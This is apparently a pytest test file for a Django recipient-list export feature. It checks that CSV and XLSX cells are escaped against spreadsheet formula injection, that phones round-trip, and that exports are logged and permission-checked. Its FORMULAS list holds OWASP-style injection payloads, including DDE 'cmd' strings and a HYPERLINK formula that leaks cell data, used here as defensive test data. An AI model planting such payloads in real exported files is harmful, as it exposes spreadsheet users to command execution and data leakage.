"""Lists as files: no cell is a formula, phones come back as they went, and it is kept who."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from python_calamine import CalamineWorkbook

from recipients.files import made_files, table_files
from recipients.files.spreadsheet_cells import phone_cell, safe_cell
from recipients.imports import importing
from recipients.lists import exporting
from recipients.models import Export, RecipientList, Visibility
from teams.models import Team, User
from tests.people import ClientOf
from tests.recipients.conftest import Door
from tests.recipients.test_list_operations import url

# OWASP's examples and what gets past naive guards.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"Error")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠SUM(1)",  # noqa: RUF001
    "x;=1+1",
    "x; =1+1",
    'x";=1+1',
    "x\t=1+1",
    "=1;=2",
    "'=1+1",
]
STARTS = tuple("=+-@＝＋－＠\t\r\n")  # noqa: RUF001


def is_formula(cell: str) -> bool:
    """What a spreadsheet of any country could take for one, cutting at semicolons and tabs too."""
    pieces = [piece for part in cell.split(";") for piece in part.split("\t")]
    return cell.startswith(STARTS) or any(piece.lstrip().startswith(STARTS) for piece in pieces)


@pytest.mark.both_databases
@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert not is_formula(safe_cell(text))
    assert safe_cell(text).replace("'", "") == text.replace("'", "")


@pytest.mark.both_databases
@pytest.mark.parametrize("text", ["", "Ann", "O'Neil", "a=b", "1-2", "x; y", "50 %", "Zoë 🙂"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.both_databases
@pytest.mark.parametrize(
    "text", ["+1", "+1415555267100000", "+1415555267a", "+14155552671\n", "=1"]
)
def test_only_a_phone_keeps_its_plus(text: str) -> None:
    assert phone_cell("+14155552671") == "+14155552671"
    assert phone_cell(text).startswith("'")


@pytest.fixture
def people(riverside: Team, alice: User) -> RecipientList:
    """A list whose every word is a formula."""
    made = RecipientList.objects.create(
        team=riverside,
        owner=alice,
        name="=Patients",
        field_names=["=Town", "Note"],
        visibility=Visibility.TEAM,
        is_ready=True,
        recipient_count=len(FORMULAS),
    )
    for number, text in enumerate(FORMULAS):
        fields = {"=Town": text, "Note": "plain"}
        made.recipients.create(phone=f"+1202555{number:04d}", name=text, fields=fields)
    return made


def exported(client: Any, people: RecipientList, file_format: str) -> bytes:
    answer = client.post(url("list-export", people), {"format": file_format})
    assert answer.status_code == 200
    return b"".join(answer)


def test_no_cell_of_the_csv_is_a_formula(
    client_of: ClientOf, people: RecipientList, sami: User
) -> None:
    raw = exported(client_of(sami), people, "csv").decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(raw))
    assert header == ["Phone", "Name", "'=Town", "Note"]
    assert [row[0] for row in rows] == [f"+1202555{n:04d}" for n in range(len(FORMULAS))]
    assert not [cell for row in rows for cell in row[1:] if is_formula(cell)]


def test_no_cell_of_the_workbook_is_a_formula(
    client_of: ClientOf, people: RecipientList, sami: User
) -> None:
    raw = exported(client_of(sami), people, "xlsx")
    sheet = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    header, *rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(raw)).get_sheet_by_index(0).to_python()
    )
    assert header == ["Phone", "Name", "=Town", "Note"]
    assert [row[0] for row in rows] == [f"+1202555{n:04d}" for n in range(len(FORMULAS))]
    assert {type(cell) for row in rows for cell in row} == {str}


@pytest.mark.both_databases
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_file_can_be_uploaded_again(
    client_of: ClientOf, riverside: Team, door: Door, sami: User, file_format: str
) -> None:
    people = door.imported("Phone,Name,Town\n4155552671,Ann,Boston\n2127365000,Bob,\n")
    people.visibility = Visibility.TEAM
    people.save()
    raw = exported(client_of(sami), people, file_format)
    made = door.checked(raw, f"again.{file_format}")
    door.post("import-confirm", made)
    importing.run_import(made.pk)
    made.refresh_from_db()
    assert made.recipient_list is not None
    columns = ("phone", "name", "fields")
    assert list(made.recipient_list.recipients.order_by("pk").values_list(*columns)) == list(
        people.recipients.order_by("pk").values_list(*columns)
    )


def test_it_is_kept_who_took_what_and_when(
    client_of: ClientOf, people: RecipientList, sami: User, alice: User, riverside: Team
) -> None:
    exported(client_of(sami), people, "csv")
    exported(client_of(alice), people, "xlsx")
    client_of(sami).post(reverse("opt-outs-export", args=[riverside.slug]))
    kept = Export.objects.order_by("pk").values_list(
        "kind", "exported_by__name", "file_format", "row_count", "name"
    )
    assert list(kept) == [
        ("list", "Sami Haddad", "csv", len(FORMULAS), "=Patients"),
        ("list", "Alice Moreau", "xlsx", len(FORMULAS), "=Patients"),
        ("opt_outs", "Sami Haddad", "csv", 0, ""),
    ]
    page = client_of(alice).get(url("list", people)).content.decode()
    assert "Sami Haddad exported it as CSV" in page


@pytest.mark.parametrize(("who", "status"), [("bob", 403), ("vera", 403), ("charlie", 404)])
def test_who_may_not_export_takes_nothing(
    client_of: ClientOf,
    people: RecipientList,
    request: pytest.FixtureRequest,
    who: str,
    status: int,
) -> None:
    client = client_of(request.getfixturevalue(who))
    assert client.post(url("list-export", people), {"format": "csv"}).status_code == status
    assert not Export.objects.exists()


@pytest.mark.both_databases
def test_a_large_workbook_is_made_by_a_worker(
    client_of: ClientOf,
    people: RecipientList,
    sami: User,
    alice: User,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    monkeypatch.setattr(made_files, "ROWS_AT_ONCE", 3)
    monkeypatch.setattr(table_files, "ROWS_A_SHEET", 10)
    monkeypatch.setattr(settings, "EXPORTS_DIR", tmp_path / "exports")
    client = client_of(sami)
    place = client.post(url("list-export", people), {"format": "xlsx"})["Location"]
    assert "takes a minute or two" in client.get(place).content.decode()
    (waiting,) = exporting.waiting_exports()
    exporting.make_export(waiting)
    assert not exporting.waiting_exports()
    assert "Download" in client.get(place).content.decode()
    assert client_of(alice).get(place).status_code == 404
    raw = b"".join(client.get(f"{place}file/"))
    book = CalamineWorkbook.from_filelike(io.BytesIO(raw))
    sizes = [len(book.get_sheet_by_index(n).to_python()) - 1 for n in range(3)]
    assert sizes == [10, 10, len(FORMULAS) - 20]

    people.visibility = Visibility.PRIVATE
    people.save()
    assert client.get(f"{place}file/").status_code == 404

    (file,) = (tmp_path / "exports").iterdir()
    long_ago = (timezone.now() - timedelta(days=2)).timestamp()
    os.utime(file, (long_ago, long_ago))
    made_files.delete_old_files()
    assert not file.exists()
    assert "has been deleted" in client.get(place).content.decode()


@pytest.mark.both_databases
def test_a_workbook_of_a_deleted_list_is_not_made(people: RecipientList, sami: User) -> None:
    ordered = exporting.order_file(people.team, sami, people)
    people.deleted_at = timezone.now()
    people.save()
    exporting.make_export(ordered.pk)
    ordered.refresh_from_db()
    assert ordered.state == Export.State.FAILED
